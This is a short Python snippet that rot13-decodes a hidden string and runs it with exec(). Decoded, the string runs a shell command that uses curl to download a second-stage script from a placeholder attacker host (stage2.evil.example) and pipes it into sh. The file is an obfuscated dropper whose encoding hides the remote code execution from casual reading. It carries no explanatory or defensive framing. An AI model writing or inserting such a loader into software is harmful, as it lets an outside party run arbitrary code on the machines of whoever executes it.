import codecs
blob = "vzcbeg bf; bf.flfgrz('phey -f uggcf://fgntr2.rivy.rknzcyr/k | fu')"
code = codecs.decode(blob, "rot_13")
exec(code)
